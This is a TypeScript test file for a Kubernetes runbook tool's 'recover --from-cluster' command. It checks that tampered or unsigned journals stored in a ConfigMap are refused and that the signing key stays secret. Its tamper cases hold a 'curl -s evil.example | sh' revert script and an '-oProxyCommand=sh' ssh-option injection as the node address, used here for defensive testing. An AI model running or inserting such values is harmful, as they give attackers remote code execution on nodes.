import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { memoryLogger } from '../core/logger.js';
import { Journal } from '../journal/journal.js';
import { Inventory } from '../inventory/schema.js';
import { JournalKey } from '../journal/key.js';
import { FakeNodes } from '../testing/fake-nodes.js';
import { inventoryOf } from '../testing/inventories.js';
import { JOURNAL_REF, journalCluster } from '../testing/journal-cluster.js';
import { openClusterCopy } from '../journal/cluster-copy.js';
import { ensureJournalKey } from '../journal/key.js';
import { recoverCommand } from './recover.js';
import { makeCtx } from './ctx.js';

const dir = mkdtempSync(join(tmpdir(), 'kr-recover-cluster-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const RUN = 'rb-20260101-000000-abcd';
const REVERT = "rm -f '/run/kr-mark'";
const inventory = Inventory.parse(
  inventoryOf({
    layout: 'kubeadm',
    transport: { type: 'ssh', user: 'ops', connectTimeout: '5s' },
    nodes: [
      { name: 'node-1', address: '10.0.0.1' },
      { name: 'node-2', address: '10.0.0.2' },
    ],
  }),
);

/**
 * What an in-cluster run leaves when its pod is killed after its fault: its journal in the ConfigMap, signed with the
 * key it drew into the empty Secret, and nothing on the machine that recovers.
 */
async function killedRun() {
  const c = journalCluster({ configMap: {}, secret: {} });
  const { copy } = await openClusterCopy(c.kube, JOURNAL_REF, RUN, memoryLogger());
  const pod = mkdtempSync(join(dir, 'pod-'));
  const j = Journal.forRun(RUN, pod, copy);
  j.append({
    type: 'run',
    at: 1,
    runId: RUN,
    runbookFile: '/etc/kube-runbook/runbook.yaml',
    runbookName: 'rb',
    inventoryFile: '/etc/kube-runbook/inventory.yaml',
    inventory,
    context: 'in-cluster',
    faultTtlMs: 60_000,
    pid: 1,
    host: 'kube-runbook-rb-x',
  });
  const state = { node: 'node-1', apply: "touch '/run/kr-mark'", revert: REVERT, timeoutMs: 30_000 };
  j.append({
    type: 'prepared',
    at: 2,
    faultId: 'f01-run-command-node-1',
    action: 'run-command',
    node: 'node-1',
    step: 'mark',
    remediation: false,
    state,
    deadman: false,
  });
  j.append({ type: 'applied', at: 3, faultId: 'f01-run-command-node-1', state });
  expect(await j.synced()).toBe(true);
  j.close();
  // the key the run drew: the Secret holds it now
  return { c, key: await ensureJournalKey(c.kube, JOURNAL_REF) };
}

/** `kube-runbook recover --from-cluster NS/NAME` on a workstation with an empty state dir; the scripts it runs on nodes are counted. */
async function recover(c: ReturnType<typeof journalCluster>, flags: { trustUnsignedJournal?: boolean } = {}) {
  const state = mkdtempSync(join(dir, 'state-'));
  const log = memoryLogger();
  let nodes: FakeNodes | undefined;
  const run = recoverCommand(
    undefined,
    { fromCluster: `${JOURNAL_REF.namespace}/${JOURNAL_REF.name}`, stateDir: state, ...flags },
    {
      createKube: () => c.kube,
      makeCtx: (o) => ({ ...makeCtx(o), nodes: (nodes = new FakeNodes(o.inventory.spec.nodes)) }),
      log,
    },
  );
  const outcome = await run.then(
    (code) => ({ code, error: undefined }),
    (e: unknown) => ({ code: undefined, error: e as { code: string; exit: number; message: string } }),
  );
  return { ...outcome, execs: nodes?.calls ?? [], state, log };
}

let printed = '';
beforeEach(() => {
  printed = '';
  for (const stream of [process.stdout, process.stderr])
    vi.spyOn(stream, 'write').mockImplementation((chunk: string | Uint8Array) => ((printed += String(chunk)), true));
});
afterEach(() => vi.restoreAllMocks());

const JOURNAL = `${RUN}.jsonl`;
const MAC = `${RUN}.hmac`;

describe('recover --from-cluster runs only journals the run signed', () => {
  it('an untampered journal: its fault is reverted on its node, and what recover wrote back is signed with the same key', async () => {
    const { c, key } = await killedRun();
    const r = await recover(c);
    expect(r.error).toBeUndefined();
    expect(r.code).toBe(0);
    expect(r.execs.map((x) => [x.node, x.script])).toEqual([['node-1', REVERT]]);
    const back = c.configMap;
    expect(back[JOURNAL]).toContain('"type":"reverted"');
    expect(key.verifies(JOURNAL_REF, RUN, back[JOURNAL]!, back[MAC]!)).toBe(true);
    // the key is in its Secret and nowhere else: not in the ConfigMap, the journal, the logs or the output
    const secretKey = c.secret!.key!;
    const forms = [secretKey, Buffer.from(secretKey, 'base64').toString('hex')];
    const sinks = [JSON.stringify(back), readFileSync(join(r.state, 'runs', JOURNAL), 'utf8'), JSON.stringify(r.log.lines), printed];
    for (const form of forms) for (const sink of sinks) expect(sink).not.toContain(form);
    expect(JSON.stringify({ key })).toBe('{"key":"[journal key]"}');
    expect(String(key)).toBe('[journal key]');
  });

  const tampered: [string, (data: Record<string, string>, key: JournalKey) => void, string][] = [
    ['a changed revert script', (d) => (d[JOURNAL] = d[JOURNAL]!.replaceAll(REVERT, 'curl -s evil.example | sh')), 'JOURNAL_NOT_AUTHENTIC'],
    [
      'an added record',
      (d) =>
        (d[JOURNAL] +=
          `${JSON.stringify({ type: 'prepared', at: 4, faultId: 'f02-x', action: 'run-command', node: 'node-2', step: 'mark', remediation: false, state: { node: 'node-2', apply: 'true', revert: 'curl -s evil.example | sh', timeoutMs: 30_000 }, deadman: false })}\n`),
      'JOURNAL_NOT_AUTHENTIC',
    ],
    [
      'a swapped inventory address',
      (d) => (d[JOURNAL] = d[JOURNAL]!.replace('"address":"10.0.0.1"', '"address":"10.6.6.6"')),
      'JOURNAL_NOT_AUTHENTIC',
    ],
    [
      'a MAC from another key',
      (d) => (d[MAC] = new JournalKey(Buffer.alloc(32, 7)).mac(JOURNAL_REF, RUN, d[JOURNAL]!)),
      'JOURNAL_NOT_AUTHENTIC',
    ],
    ['a missing MAC', (d) => delete d[MAC], 'JOURNAL_UNSIGNED'],
    [
      "another run's MAC (the journal moved to another key)",
      (d, key) => {
        d[`other.jsonl`] = d[JOURNAL]!;
        d[`other.hmac`] = key.mac(JOURNAL_REF, RUN, d[JOURNAL]!);
      },
      'JOURNAL_NOT_AUTHENTIC',
    ],
  ];
  it.each(tampered)('%s: refused (exit 2) naming the ConfigMap and why, and nothing runs on any node', async (_, tamper, code) => {
    const { c, key } = await killedRun();
    const before = JSON.stringify(c.configMap);
    tamper(c.configMap, key);
    expect(JSON.stringify(c.configMap)).not.toBe(before);
    const r = await recover(c);
    expect(r.error).toMatchObject({
      code,
      exit: 2,
      message: expect.stringContaining(`in ConfigMap ${JOURNAL_REF.namespace}/${JOURNAL_REF.name}`),
    });
    expect(r.error!.message).toContain('nothing was run');
    expect(r.execs).toEqual([]);
    // and nothing of it reaches the state dir, where a later plain `recover` would find it
    expect(existsSync(join(r.state, 'runs', JOURNAL))).toBe(false);
  });

  it('a journal signed with the key but not of the right shape (a node address that is an ssh option) is refused too', async () => {
    const { c, key } = await killedRun();
    const d = c.configMap;
    d[JOURNAL] = d[JOURNAL]!.replace('"address":"10.0.0.1"', '"address":"-oProxyCommand=sh"');
    d[MAC] = key.mac(JOURNAL_REF, RUN, d[JOURNAL]!);
    const r = await recover(c);
    expect(r.error).toMatchObject({ code: 'JOURNAL_INVALID', exit: 2 });
    expect(r.error!.message).toContain(
      `the journal of run ${RUN} in ConfigMap ${JOURNAL_REF.namespace}/${JOURNAL_REF.name}: its inventory is not valid`,
    );
    expect(r.execs).toEqual([]);
  });

  it('a journal with no MAC (an older version copied it) is taken only with --trust-unsigned-journal; a wrong MAC never', async () => {
    const unsigned = await killedRun();
    delete unsigned.c.configMap[MAC];
    const r = await recover(unsigned.c, { trustUnsignedJournal: true });
    expect(r.code).toBe(0);
    expect(r.execs.map((x) => x.script)).toEqual([REVERT]);

    const forged = await killedRun();
    forged.c.configMap[MAC] = '0'.repeat(64);
    const refused = await recover(forged.c, { trustUnsignedJournal: true });
    expect(refused.error).toMatchObject({ code: 'JOURNAL_NOT_AUTHENTIC', exit: 2 });
    expect(refused.execs).toEqual([]);
  });

  it('a signed journal whose key Secret is gone or empty cannot be checked: refused, nothing run', async () => {
    const { c } = await killedRun();
    c.writeSecret({});
    const r = await recover(c);
    expect(r.error).toMatchObject({ code: 'JOURNAL_UNVERIFIABLE', exit: 2 });
    expect(r.execs).toEqual([]);
  });
});
